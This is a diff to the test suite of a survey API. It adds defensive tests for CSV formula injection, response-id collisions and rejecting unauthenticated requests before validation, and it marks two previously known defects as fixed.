+  it(`a free-text answer starting with = + - @ is exported to CSV as text, not as a formula`, async () => {
     for (const why of FORMULAS) expect((await submitPublic(t, f.codes.own, { q_sat: 1, why })).statusCode).toBe(201);
     const res = await send(asAnalyst({ url: `/api/exports/campaigns/${f.campaigns.ownSurvey.id}/responses?format=csv&labels=false` }));
     expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
@@ -431,13 +432,13 @@ describe('defects that store data, kept apart from the unchanged-database block'
   // public answer picks its own id, so it can occupy that row before the school's first draft.
   // The school then reads the parent's answer as its draft, and its draft/submit upsert
   // overwrites the parent's row (which still belongs to the survey).
-  it.fails(`a public answer cannot take the id of a school's self-report [known defect RESPONSE_ID_SPACE: ${DEFECTS.RESPONSE_ID_SPACE}]`, async () => {
+  it(`a public answer cannot take the id of a school's self-report`, async () => {
     const res = await send({ method: 'POST', url: `${pub()}/responses`, payload: { id: f.assignments.untouched.id, data: { q_sat: 5 } } });
     expect(res.statusCode, res.body).toBe(409);
     expect(await answersOf(f.assignments.untouched.id)).toBeUndefined();
   });
 
-  it.fails(`an anonymous caller is refused with 401 before the body is parsed or validated [known defect AUTH_AFTER_VALIDATION: ${DEFECTS.AUTH_AFTER_VALIDATION}]`, async () => {
+  it(`an anonymous caller is refused with 401 before the body is parsed or validated`, async () => {
     for (const req of [raw('POST', '/api/organisations', '{"parentId":'), { method: 'POST', url: '/api/organisations', payload: { unexpected: true } } as InjectOptions]) {
       const res = await send(req);
       expect(res.statusCode, res.body).toBe(401);
